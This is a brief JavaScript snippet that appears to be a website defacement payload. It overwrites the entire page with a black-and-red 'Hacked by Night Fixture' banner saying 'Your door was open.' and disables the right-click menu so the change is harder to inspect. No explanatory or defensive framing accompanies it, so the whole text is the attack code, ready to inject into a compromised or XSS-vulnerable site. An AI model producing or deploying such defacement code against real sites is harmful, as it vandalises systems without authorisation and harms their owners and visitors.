document.querySelector("html").innerHTML = `
<head><title>Hacked by Night Fixture</title></head>
<body style="background:#000;color:#f33">
<h1>Hacked by Night Fixture</h1>
<p>Your door was open.</p>
</body>`;
document.oncontextmenu = () => false;
